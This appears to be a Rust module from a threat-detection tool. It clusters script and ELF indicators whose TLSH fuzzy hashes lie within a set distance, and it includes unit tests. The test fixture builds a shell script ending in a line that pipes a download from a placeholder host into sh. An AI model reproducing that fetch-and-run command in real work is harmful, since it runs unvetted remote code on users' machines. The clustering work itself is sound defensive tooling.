//! Programs and scripts that are nearly the same: TLSH values near each other are one group, and the
//! group is the indicator (Oliver, Cheng and Chen, "TLSH: A Locality Sensitive Hash", 2013).
//!
//! Values are compared only where four bytes of their body are equal at one of eight places, and with
//! at most [`COMPARED`] of those, so that many hashes cost little more than few.

use std::collections::HashMap;

use petgraph::unionfind::UnionFind;
use tlsh2::Tlsh128_1;

/// Up to this distance two contents are taken for variants of one. The authors of TLSH found 0.01 % of
/// unrelated files within 30, and nearly half of the related ones.
const NEAR: i32 = 30;
/// With so many values that have a piece in common a new one is compared.
const COMPARED: usize = 256;
/// Pieces of four bytes in the body of a value.
const PIECES: usize = 8;
/// Ends a chain.
const NONE: u32 = u32::MAX;

/// All values seen, by group.
pub(crate) struct Fuzzy {
    values: Vec<Value>,
    /// The latest value with this piece at this place.
    heads: HashMap<u64, u32>,
    groups: UnionFind<u32>,
    /// The indicator that stands for a group: the least of its own, by the group's representative.
    least: Vec<u32>,
}

struct Value {
    indicator: u32,
    script: bool,
    hash: Tlsh128_1,
    /// The value before it with the same piece, for each place.
    before: [u32; PIECES],
}

impl std::fmt::Debug for Fuzzy {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Fuzzy").field("values", &self.values.len()).finish_non_exhaustive()
    }
}

impl Fuzzy {
    pub(crate) fn new() -> Self {
        Self { values: Vec::new(), heads: HashMap::new(), groups: UnionFind::new_empty(), least: Vec::new() }
    }

    /// Takes in the value of an indicator (`script T1…`, `elf T1…`). Says which indicators stood for the
    /// groups that it joins, itself included. A text that is no such value is a group of its own.
    pub(crate) fn add(&mut self, indicator: u32, text: &str) -> Vec<u32> {
        let Some((script, hash)) = parse(text) else { return vec![indicator] };
        let raw = hash.hash();
        let body = body(&raw);
        let own = self.groups.new_set();
        self.least.push(indicator);
        let mut joined = vec![indicator];
        let mut before = [NONE; PIECES];
        for (at, piece) in body.chunks_exact(4).take(PIECES).enumerate() {
            // A piece of one byte four times stands in what has little content to tell apart.
            if piece.iter().all(|byte| *byte == piece[0]) {
                continue;
            }
            let key =
                (at as u64) << 32 | u64::from(u32::from_le_bytes([piece[0], piece[1], piece[2], piece[3]]));
            let head = self.heads.insert(key, own);
            before[at] = head.unwrap_or(NONE);
            let mut next = before[at];
            for _ in 0..COMPARED {
                let Some(other) = self.values.get(next as usize) else { break };
                if other.script == script
                    && !self.groups.equiv(own, next)
                    && hash.diff(&other.hash, true) <= NEAR
                {
                    let (mine, theirs) = (self.groups.find(own), self.groups.find(next));
                    let (a, b) = (self.least[mine as usize], self.least[theirs as usize]);
                    joined.push(b);
                    self.groups.union(own, next);
                    let representative = self.groups.find(own);
                    self.least[representative as usize] = a.min(b);
                }
                next = other.before[at];
            }
        }
        self.values.push(Value { indicator, script, hash, before });
        joined.sort_unstable();
        joined.dedup();
        joined
    }

    /// Each indicator that is not the one that stands for its group, with that one.
    pub(crate) fn grouped(&self) -> impl Iterator<Item = (u32, u32)> {
        self.values.iter().enumerate().filter_map(|(at, value)| {
            let stands = self.least[self.groups.find(at as u32) as usize];
            (stands != value.indicator).then_some((value.indicator, stands))
        })
    }
}

fn parse(text: &str) -> Option<(bool, Tlsh128_1)> {
    let (class, hash) = text.split_once(' ')?;
    let hash: Tlsh128_1 = hash.parse().ok()?;
    Some((class == "script", hash))
}

/// The digits of the 32 bytes of the body as bytes: after `T1`, checksum, length and quartile ratios.
fn body(hash: &[u8]) -> Vec<u8> {
    let digits = hash.get(hash.len().saturating_sub(64)..).unwrap_or_default();
    data_encoding::HEXUPPER_PERMISSIVE.decode(digits).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn value(class: &str, text: &str) -> String {
        let hash = tlsh2::TlshDefaultBuilder::build_from(text.as_bytes()).expect("long and varied enough");
        format!("{class} {}", String::from_utf8_lossy(&hash.hash()))
    }

    fn script(target: &str) -> String {
        let mut text = String::from("#!/bin/sh\nset -e\n");
        for step in 0..40 {
            text.push_str(&format!("echo preparing step {step} of the service && sleep {}\n", step * 7 % 11));
        }
        text.push_str(&format!("curl -fsS http://{target}/install | sh\n"));
        text
    }

    #[test]
    fn variants_of_one_script_are_one_group_and_another_script_is_none_of_it() {
        let mut fuzzy = Fuzzy::new();
        assert_eq!(fuzzy.add(10, &value("script", &script("a.invalid"))), [10]);
        assert_eq!(fuzzy.add(11, &value("script", &script("bb.example"))), [10, 11]);
        let other: String =
            (0..90).map(|n| format!("SELECT column_{n} FROM t{} WHERE x<{n};\n", n * n)).collect();
        assert_eq!(fuzzy.add(12, &value("script", &other)), [12]);
        assert_eq!(fuzzy.grouped().collect::<Vec<_>>(), [(11, 10)]);
    }

    #[test]
    fn a_script_and_a_program_are_never_one_group() {
        let mut fuzzy = Fuzzy::new();
        fuzzy.add(1, &value("script", &script("a.invalid")));
        assert_eq!(fuzzy.add(2, &value("elf", &script("a.invalid"))), [2]);
    }

    #[test]
    fn what_is_no_value_stays_alone() {
        let mut fuzzy = Fuzzy::new();
        for (at, text) in ["", "script", "script T1", "elf T1ZZ", "elf \u{202e}"].into_iter().enumerate() {
            assert_eq!(fuzzy.add(at as u32, text), [at as u32]);
        }
        assert_eq!(fuzzy.grouped().count(), 0);
    }
}
